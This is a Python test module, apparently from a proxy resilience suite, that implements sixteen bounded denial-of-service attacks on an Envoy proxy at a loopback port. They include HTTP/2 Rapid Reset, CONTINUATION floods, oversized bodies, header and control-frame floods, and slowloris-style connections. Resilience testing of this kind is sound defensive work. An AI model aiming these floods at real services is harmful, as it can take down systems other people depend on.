"""What anybody on the network can do to a proxy; each is bounded, and holds what it has opened."""

import asyncio
import contextlib
import struct
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from contextlib import asynccontextmanager

from bench import h2

from tests.envoy.attacks.attacker import CONTINUATION, PRIORITY, Connection

HOST = "victim.test"
_KIB, _MIB = 1 << 10, 1 << 20
_GRPC = {"content-type": "application/grpc", "te": "trailers"}
_JSON = {"content-type": "application/json"}
_FOREVER = {**_GRPC, "grpc-timeout": "99999H"}
_UNARY, _SILENT, _LARGE = (
    f"/user.v1.UserService/{name}" for name in ("GetUser", "SyncUsers", "ListUsers")
)
_STREAMS = 100
"""What Envoy allows on a connection."""

Attack = Callable[[int], Awaitable[None]]
"""Attacks a port of loopback."""


@asynccontextmanager
async def _connected(
    port: int, number: int, *, window: int | None = None
) -> AsyncIterator[list[Connection]]:
    made = [await Connection.open(port, HOST, window=window) for _ in range(number)]
    try:
        yield made
    finally:
        for each in made:
            await each.close()


async def _sockets(port: int, number: int, sends: bytes) -> list[asyncio.StreamWriter]:
    writers = []
    for _ in range(number):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(sends)
        writers.append(writer)
    return writers


async def _closed(writers: Iterable[asyncio.StreamWriter], after: float) -> None:
    await asyncio.sleep(after)
    for writer in writers:
        writer.close()


async def one_huge_unary_body(port: int) -> None:
    """50 MB of JSON for a limit of 4 MiB, in small pieces."""
    async with _connected(port, 1) as (one,):
        stream = one.request("/v1/users", _JSON)
        await one.body(stream, 50 * _MIB)


async def one_huge_message_of_a_stream(port: int) -> None:
    """547 MB of JSON as one message of a stream of requests, which never ends."""
    async with _connected(port, 1) as (one,):
        stream = one.request("/v1/users:batchCreate", _JSON)
        await one.body(stream, len(b'[{"name":"'), b'[{"name":"')
        await one.body(stream, 547 * _MIB)


async def unary_bodies_without_an_end(port: int) -> None:
    """As many bodies just below 4 MiB as fit on three connections, 1.2 GB together."""
    async with _connected(port, 3) as made:

        async def fill(one: Connection) -> None:
            for stream in [one.request("/v1/users", _JSON) for _ in range(_STREAMS)]:
                await one.body(stream, 4 * _MIB - 1)

        await asyncio.gather(*map(fill, made))


async def streams_without_an_end(port: int) -> None:
    """4000 calls with a deadline in 11 years."""
    async with _connected(port, 40) as made:
        for one in made:
            for _ in range(_STREAMS):
                one.request(_SILENT, _FOREVER)
            await one.flushed()
        await asyncio.sleep(1)


async def more_streams_than_allowed(port: int) -> None:
    """1000 calls at once on one connection."""
    async with _connected(port, 1) as (one,):
        for _ in range(10 * _STREAMS):
            one.request(_SILENT, _FOREVER)
        await one.flushed()
        await one.settled()


async def requests_that_nobody_reads(port: int) -> None:
    """400 calls to a server that never reads, each with all that fits into its window."""
    async with _connected(port, 4) as made:

        async def fill(one: Connection) -> None:
            streams = [one.request(_SILENT, _GRPC) for _ in range(_STREAMS)]
            await asyncio.gather(*(one.body(stream, _MIB) for stream in streams))

        await asyncio.gather(*map(fill, made))


async def answers_that_nobody_reads(port: int) -> None:
    """500 streams of large answers to clients whose window is closed."""
    async with _connected(port, 5, window=0) as made:
        for one in made:
            for _ in range(_STREAMS):
                await one.body(one.request(_LARGE, _GRPC), 5, b"\0", end=True)
        await asyncio.sleep(2)


async def rapid_reset(port: int) -> None:
    """10,000 calls that are reset at once (CVE-2023-44487)."""
    async with _connected(port, 4) as made:
        for one in made:
            for _ in range(2500):
                one.reset(one.request(_UNARY, _GRPC))
            await one.flushed()
        await asyncio.sleep(0.5)


async def continuation_flood(port: int) -> None:
    """A header block of 64 MB that never ends (CVE-2024-27316, CVE-2024-30255)."""
    async with _connected(port, 1) as (one,):
        one.send(h2.frame(h2.HEADERS, 0, 1, one.block(_UNARY, _GRPC)))
        part = h2.headers({"x-flood": "y" * 15_000})
        for _ in range(4000):
            one.send(h2.frame(CONTINUATION, 0, 1, part))
            await one.flushed()
        await one.settled()


async def many_headers(port: int) -> None:
    """Calls with 10,000 small headers each, and calls with a header of 200 KiB."""
    async with _connected(port, 2) as (small, large):
        for _ in range(50):
            small.request(_UNARY, {**_GRPC, **{f"h{index}": "v" for index in range(10_000)}})
            large.request(_UNARY, {**_GRPC, **{f"h{index}": "v" * 15_000 for index in range(14)}})
            await small.flushed()
            await large.flushed()
        await asyncio.sleep(0.5)


async def headers_that_are_kept(port: int) -> None:
    """As many headers as Envoy takes, on as many calls as it takes: 180 MB together."""
    async with _connected(port, 40) as made:
        large = {**_FOREVER, **{f"h{index}": "y" * 15_000 for index in range(3)}}
        for one in made:
            for _ in range(_STREAMS):
                one.request(_SILENT, large)
                await one.flushed()
        await asyncio.sleep(1)


async def control_frames(port: int) -> None:
    """20,000 each of SETTINGS, PING, PRIORITY, WINDOW_UPDATE and empty DATA frames."""
    floods = (
        h2.frame(h2.SETTINGS, 0, 0),
        h2.frame(h2.PING, 0, 0, bytes(8)),
        h2.frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
        h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        h2.frame(h2.DATA, 0, 1),
    )
    async with _connected(port, len(floods)) as made:
        for one, flood in zip(made, floods, strict=True):
            one.request(_SILENT, _GRPC)
            for _ in range(20):
                one.send(flood * 1000)
                await one.flushed()
        await asyncio.sleep(0.5)


async def slow_headers(port: int) -> None:
    """500 requests whose headers never end."""
    head = b"POST /v1/users HTTP/1.1\r\nhost: " + HOST.encode() + b"\r\nx-slow: "
    await _closed(await _sockets(port, 500, head), after=1)


async def slow_bodies(port: int) -> None:
    """500 requests whose bodies never end."""
    head = b"POST /v1/users HTTP/1.1\r\ncontent-type: application/json\r\nhost: "
    body = HOST.encode() + b"\r\ncontent-length: 4000000\r\n\r\n{"
    await _closed(await _sockets(port, 500, head + body), after=1)


async def many_connections(port: int) -> None:
    """4000 connections, half of which begin HTTP/2."""
    half = [await _sockets(port, 2000, sends) for sends in (b"", h2.PREFACE + h2.settings())]
    await _closed(half[0] + half[1], after=0.5)


async def no_http(port: int) -> None:
    """200 connections with 64 KiB of what is not HTTP."""
    with contextlib.suppress(ConnectionError):
        await _closed(await _sockets(port, 200, b"\xff\x00" * 32 * _KIB), after=0.5)


ALL: tuple[Attack, ...] = (
    one_huge_unary_body,
    one_huge_message_of_a_stream,
    unary_bodies_without_an_end,
    streams_without_an_end,
    more_streams_than_allowed,
    requests_that_nobody_reads,
    answers_that_nobody_reads,
    rapid_reset,
    continuation_flood,
    many_headers,
    headers_that_are_kept,
    control_frames,
    slow_headers,
    slow_bodies,
    many_connections,
    no_http,
)
